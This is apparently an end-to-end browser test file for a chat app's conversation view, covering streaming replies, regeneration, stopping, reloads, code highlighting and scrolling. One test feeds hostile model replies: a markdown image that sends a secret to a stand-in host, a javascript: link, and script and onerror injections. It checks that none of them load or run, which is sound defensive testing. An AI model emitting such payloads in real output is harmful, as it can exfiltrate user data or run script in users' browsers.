import type { Page } from 'playwright-core'
import { describe, expect, inject, test } from 'vitest'
import { chatInBrowser, ended, gate, messageField, send } from './chat-in-browser.ts'
import { haveTurns } from './running-chat.ts'

/*
 * Conversations in the chat app, at its own host: replies while they are written, and their branches.
 */

/** A program for the page: the lowest contrast of the parts of code with their surface, as WCAG defines it. */
const lowestContrast = `{
  const luminance = (color) => {
    const [r, g, b] = color.match(/[\\d.]+/g).map((part) => {
      const share = Number(part) / 255
      return share <= 0.04045 ? share / 12.92 : ((share + 0.055) / 1.055) ** 2.4
    })
    return 0.2126 * r + 0.7152 * g + 0.0722 * b
  }
  const contrasts = [...document.querySelectorAll('pre span')].map((part) => {
    const surface = luminance(getComputedStyle(part.closest('figure')).backgroundColor)
    const text = luminance(getComputedStyle(part).color)
    return (Math.max(surface, text) + 0.05) / (Math.min(surface, text) + 0.05)
  })
  Math.min(...contrasts)
}`

/** A program for the page: whether the end of a text is left of its start, in the last message of a kind. */
const isFromRight = (label: string, text: string): string => `{
  const message = [...document.querySelectorAll('[aria-label="${label}"]')].at(-1)
  const texts = document.createTreeWalker(message, NodeFilter.SHOW_TEXT)
  while (texts.nextNode() && !texts.currentNode.data.includes('${text}')) {}
  const { currentNode } = texts
  const start = currentNode.data.indexOf('${text}')
  const leftOf = (place) => {
    const range = document.createRange()
    range.setStart(currentNode, place)
    range.setEnd(currentNode, place + 1)
    return range.getBoundingClientRect().left
  }
  leftOf(start + ${text.length - 1}) < leftOf(start)
}`

describe.skipIf(inject('chromium') === null)('a conversation', () => {
  const { chat, page } = chatInBrowser()

  const replies = (at: Page = page) => at.getByRole('article', { name: 'Reply' })
  const questions = (at: Page = page) => at.getByRole('article', { name: 'Your message' })
  const stop = (at: Page = page) => at.getByRole('button', { name: 'Stop' })
  const viewport = () => page.getByLabel('Messages')
  const fromEnd = () =>
    viewport().evaluate((element) => {
      const { scrollHeight, scrollTop, clientHeight } = element as unknown as {
        readonly scrollHeight: number
        readonly scrollTop: number
        readonly clientHeight: number
      }
      return scrollHeight - scrollTop - clientHeight
    })

  test('begins with a message, and shows the reply while it is written', async () => {
    const held = gate()
    chat.reply({
      pieces: ['**Hello', '** there', held, ', friend'],
      usage: { input: 30, output: 7 },
    })
    await page.goto(chat.start)
    await send(page, 'Say hello')
    await page.getByText('Hello there').waitFor()
    await page.getByText('The model is writing a reply.').waitFor({ state: 'attached' })
    await stop().waitFor()
    expect(await replies().locator('strong').innerText()).toBe('Hello')
    held.open()
    await ended(page)
    await page.getByText('The reply has ended.').waitFor({ state: 'attached' })
    expect(await replies().last().innerText()).toContain('Hello there, friend')
    await page.waitForURL(/\/c\/[\da-f-]{36}$/)
    await expect.poll(() => page.title()).toContain('A scripted title')
  })

  test('shows model, tokens and cost of a reply, and leads to its trace', async () => {
    const details = page.getByRole('list', { name: 'About this reply' })
    await expect.poll(() => details.innerText()).toContain('30 → 7 tokens')
    expect(await details.innerText()).toContain('$0.000044')
    const isOpening = page.context().waitForEvent('page')
    await details.getByRole('link', { name: 'Trace' }).click()
    const trace = await isOpening
    const traces = `${chat.tracing}/p/${chat.setUp.project.id}/traces`
    await trace.waitForURL(new RegExp(`^${traces}/[\\da-f]{32}$`))
    await trace.getByRole('heading', { name: 'chat' }).first().waitFor()
    await trace.close()
  })

  test('has another reply beside the first, and steps between them, also after a reload', async () => {
    chat.reply({ pieces: ['Second version'] })
    await page.getByRole('button', { name: 'Regenerate reply' }).click()
    await page.getByText('Second version').waitFor()
    await page.getByText('2 of 2').waitFor()
    await page.getByRole('button', { name: 'Previous version' }).click()
    await page.getByText('Hello there, friend').waitFor()
    await page.getByText('1 of 2').waitFor()
    await page.reload()
    await page.getByText('Hello there, friend').waitFor()
    await page.getByText('1 of 2').waitFor()
    await page.getByRole('button', { name: 'Next version' }).click()
    await page.getByText('Second version').waitFor()
    expect(await questions().count()).toBe(1)
  })

  test('keeps the first version of a message that is edited', async () => {
    chat.reply({ pieces: ['Third version'] })
    await questions().first().hover()
    await page.getByRole('button', { name: 'Edit message' }).click()
    const field = page.getByRole('textbox', { name: 'Edit message' })
    await field.fill('Say it differently')
    await field.press('Enter')
    await page.getByText('Third version').waitFor()
    await ended(page)
    expect(await questions().innerText()).toContain('Say it differently')
    await questions().getByRole('button', { name: 'Previous version' }).click()
    await page.getByText('Second version').waitFor()
    expect(await questions().innerText()).toContain('Say hello')
  })

  test('stops a reply with Escape, keeps what came, and goes on from it (cases 1 and 7)', async () => {
    const never = gate()
    chat.reply({ pieces: ['Partial answer', never] }, { pieces: ['Continued'] })
    await send(page, 'Tell me a lot')
    await page.getByText('Partial answer').waitFor()
    await messageField(page).press('Escape')
    await page.getByRole('note').getByText('You stopped this reply.').waitFor()
    await chat.scripted.idle()
    await send(page, 'Go on')
    await page.getByText('Continued').waitFor()
    await ended(page)
    expect(chat.replyCalls().at(-1)?.texts).toEqual(
      expect.arrayContaining(['Tell me a lot', 'Partial answer', 'Go on']),
    )
    never.open()
  })

  test('stops a reply before its first token (case 2)', async () => {
    const never = gate()
    chat.reply({ pieces: [never, 'Too late'] })
    await send(page, 'Wait for it')
    await stop().click()
    await expect
      .poll(() => page.getByRole('note').getByText('You stopped this reply.').count())
      .toBe(2)
    never.open()
    expect(await page.getByText('Too late').count()).toBe(0)
  })

  test('is followed after a reload in the middle of a reply, once (cases 8 and 9)', async () => {
    const held = gate()
    chat.reply({ pieces: ['Before the reload', held, ' and after it'] })
    await send(page, 'Survive this')
    await page.getByText('Before the reload').waitFor()
    const joins: string[] = []
    page.on('request', (request) => {
      if (/\/chat\/stream\/[^/]+$/.test(request.url())) joins.push(request.url())
    })
    await page.reload()
    await page.getByText('Before the reload').waitFor()
    held.open()
    await page.getByText('Before the reload and after it', { exact: true }).waitFor()
    await ended(page)
    expect(await page.getByText('Before the reload').count()).toBe(1)
    expect(joins).toHaveLength(1)
  })

  test('shows a reply that is written in two tabs', async () => {
    const held = gate()
    chat.reply({ pieces: ['In both', held, ' tabs'] })
    await send(page, 'Show it twice')
    await page.getByText('In both').waitFor()
    const other = await chat.openAnother()
    await other.page.goto(page.url())
    await other.page.getByText('In both').waitFor()
    held.open()
    await other.page.getByText('In both tabs').waitFor()
    await page.getByText('In both tabs').waitFor()
    await other.context.close()
  })

  test('has its reply when a person comes back who left before the first token (case 6)', async () => {
    const held = gate()
    chat.reply({ pieces: [held, 'Meanwhile finished'] })
    const address = page.url()
    const before = chat.replyCalls().length
    await send(page, 'I will be back')
    // From then on the service has the message.
    await expect.poll(() => chat.replyCalls().length).toBe(before + 1)
    await stop().waitFor()
    await page.goto(chat.start)
    await page.getByRole('heading', { name: 'New conversation' }).waitFor()
    held.open()
    await chat.scripted.idle()
    await page.goto(address)
    await page.getByText('Meanwhile finished').waitFor()
    await ended(page)
  })

  test('shows why a reply failed, and tries again', async () => {
    chat.reply(
      { pieces: ['Half', { error: 'The server had an error.' }] },
      { pieces: ['Now it works'] },
    )
    await send(page, 'Fail once')
    const again = page.getByRole('button', { name: 'Try again' })
    await again.waitFor()
    await page.getByText('Half').waitFor()
    const details = page.getByRole('list', { name: 'About this reply' }).last()
    expect(await details.innerText()).not.toContain('—')
    await again.click()
    await page.getByText('Now it works').waitFor()
    await ended(page)
  })

  test('folds the reasoning of a model', async () => {
    chat.reply({ pieces: [{ reasoning: 'First I think.' }, 'Then I answer'] })
    await send(page, 'Think')
    await page.getByText('Then I answer').waitFor()
    await ended(page)
    expect(await page.getByText('First I think.').isVisible()).toBe(false)
    await page.getByText('Reasoning', { exact: true }).click()
    await page.getByText('First I think.').waitFor()
  })

  test('loads and runs nothing of a hostile reply (case 31)', async () => {
    const requests: string[] = []
    page.on('request', (request) => requests.push(request.url()))
    chat.reply({
      pieces: [
        '![x](https://evil.test/?q=secret) [click](javascript:alert(1)) [site](https://evil.test/?q=1)',
        '\n\n<img src="https://evil.test/raw" onerror="document.title=\'owned\'">',
        '\n\n<script>document.title="owned"</script>',
      ],
    })
    await send(page, 'Be evil')
    await page.getByText('Image not loaded: x').waitFor()
    await ended(page)
    expect(requests.filter((url) => url.includes('evil.test'))).toEqual([])
    expect(await page.title()).not.toContain('owned')
    expect(await page.getByRole('link', { name: 'click' }).count()).toBe(0)
    await page.getByRole('link', { name: 'site' }).click()
    await page.getByRole('dialog', { name: 'Open this link?' }).waitFor()
    await page.getByRole('dialog').getByText('https://evil.test/?q=1').waitFor()
    await page.getByRole('button', { name: 'Cancel' }).click()
    expect(requests.filter((url) => url.includes('evil.test'))).toEqual([])
    expect(page.context().pages()).toHaveLength(1)
  })

  test('shows a hostile reply that would take too long to render as it was written', async () => {
    chat.reply({ pieces: ['Before **it**.\n\n', '> '.repeat(10_000), '\n\nAfter **it**.'] })
    await send(page, 'Nest quotations')
    await ended(page)
    await page.reload()
    const reply = page.getByRole('article', { name: 'Reply' }).last()
    await reply.getByText('> > > >').waitFor()
    expect(await reply.locator('strong').allTextContents()).toEqual(['it', 'it'])
  })

  test('highlights code in parts of a language, with enough contrast, and scrolls its lines', async () => {
    const held = gate()
    const line = `const text = 'a'; // ${'long '.repeat(60)}`
    const code = ['/* note */', 'export function sum(a = 1) { return this.b[a] }', line]
    chat.reply({
      pieces: [
        'Look:\n\n```ts\n',
        ...Array.from({ length: 12 }, () => `${code.join('\n')}\n`),
        held,
        '```\n\n```nonsense\n<b>plain</b>\n```\n\n```html\n<img src="https://evil.test/" onerror="x()">\n```\n',
      ],
    })
    await send(page, 'Write code')
    const block = replies().last().locator('pre').first()
    await block.locator('.hljs-keyword').first().waitFor()
    held.open()
    await ended(page)
    await page.getByText('<b>plain</b>', { exact: true }).waitFor()
    expect(await replies().last().locator('pre').nth(1).locator('[class^=hljs]').count()).toBe(0)
    await replies().last().getByText('https://evil.test/').waitFor()
    expect(await page.locator('img[src*=evil]').count()).toBe(0)
    const { width, scrollWidth } = await block.evaluate((element) => {
      const pre = element as unknown as {
        readonly clientWidth: number
        readonly scrollWidth: number
      }
      return { width: pre.clientWidth, scrollWidth: pre.scrollWidth }
    })
    expect(scrollWidth).toBeGreaterThan(width)
    expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true)
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme })
      expect(await page.evaluate(lowestContrast)).toBeGreaterThanOrEqual(4.5)
    }
    await page.emulateMedia({ colorScheme: 'light' })
  })

  test('gives up highlighting code that takes too long, and highlights what follows', async () => {
    // Takes minutes.
    const slow = 'a<b>\n'.repeat(2000)
    chat.reply({ pieces: [`\`\`\`cs\n${slow}\`\`\`\n\n\`\`\`js\nconst quick = 1\n\`\`\``] })
    await send(page, 'Write slow code')
    await ended(page)
    const blocks = replies().last().locator('pre')
    await blocks.last().locator('.hljs-keyword').waitFor()
    expect(await blocks.first().locator('[class^=hljs]').count()).toBe(0)
    expect(await blocks.first().textContent()).toBe(slow)
  })

  test('keeps the place of a person who scrolls up while a reply is written', async () => {
    const [first, second] = [gate(), gate()]
    const lines = (name: string) => Array.from({ length: 60 }, (_, n) => `${name} ${n}\n\n`)
    chat.reply({ pieces: [...lines('one'), first, ...lines('two'), second, ...lines('three')] })
    await send(page, 'Write a lot')
    await page.getByText('one 59').waitFor()
    await expect.poll(fromEnd).toBeLessThan(5)
    await viewport().hover()
    await page.mouse.wheel(0, -600)
    await expect.poll(fromEnd).toBeGreaterThan(300)
    first.open()
    await page.getByText('two 59').waitFor()
    expect(await fromEnd()).toBeGreaterThan(600)
    await page.getByRole('button', { name: 'Scroll to the end' }).click()
    second.open()
    await page.getByText('three 59').waitFor()
    await expect.poll(fromEnd).toBeLessThan(5)
    await ended(page)
  })

  test('shows a message that is sent from further up, and its reply', async () => {
    chat.reply({ pieces: Array.from({ length: 30 }, (_, line) => `new ${line}\n\n`) })
    await viewport().hover()
    await page.mouse.wheel(0, -900)
    await expect.poll(fromEnd).toBeGreaterThan(600)
    await send(page, 'Sent from further up')
    await page.getByText('new 29').waitFor()
    await ended(page)
    await expect.poll(fromEnd).toBeLessThan(5)
  })

  test('folds a long message, which stays expanded when its reply starts', async () => {
    const lines = Array.from({ length: 60 }, (_, line) => `line ${line}`).join('\n')
    await page.getByRole('textbox', { name: 'Message' }).fill(lines)
    let deliver = () => {}
    const isExpanded = new Promise<void>((resolve) => (deliver = resolve))
    const path = '**/chat/stream'
    await page.route(path, async (route) => {
      await isExpanded
      await route.continue()
    })
    await page.keyboard.press('Enter')
    const question = questions().filter({ hasText: 'line 59' })
    const height = async () => (await question.boundingBox())?.height
    await question.getByRole('button', { name: 'Show all' }).click()
    // Its id is another one from the start of the reply on.
    deliver()
    await ended(page)
    await page.unroute(path)
    expect(await height()).toBeGreaterThan(1000)
    await question.getByRole('button', { name: 'Show less' }).click()
    expect(await height()).toBeLessThan(400)
  })

  test('is read from the right where its text is, in lines of messages and blocks of replies', async () => {
    chat.reply({ pieces: ['Left.\n\n', 'שלום.'] })
    await send(page, 'Left.\nשלום.')
    await ended(page)
    for (const label of ['Your message', 'Reply']) {
      expect(await page.evaluate(isFromRight(label, 'Left.'))).toBe(false)
      expect(await page.evaluate(isFromRight(label, 'שלום.'))).toBe(true)
    }
  })

  test('shows its end, and earlier messages when they come near', async () => {
    const id = await page.evaluate(haveTurns(chat.setUp, 25))
    await page.goto(`${chat.start}/c/${String(id)}`)
    await page.getByText('Turn 24', { exact: true }).waitFor()
    expect(await page.getByText('Turn 0', { exact: true }).count()).toBe(0)
    await page.getByLabel('Messages').hover()
    await expect
      .poll(async () => {
        await page.mouse.wheel(0, -2000)
        return page.getByText('Turn 0', { exact: true }).count()
      })
      .toBe(1)
    expect(await questions().count()).toBe(25)
    expect(await replies().count()).toBe(25)
  })

  test('violates no policy and logs no error', () => {
    expect(chat.watched.faults).toEqual([])
    expect(chat.service.log()).toBe('')
  })
})
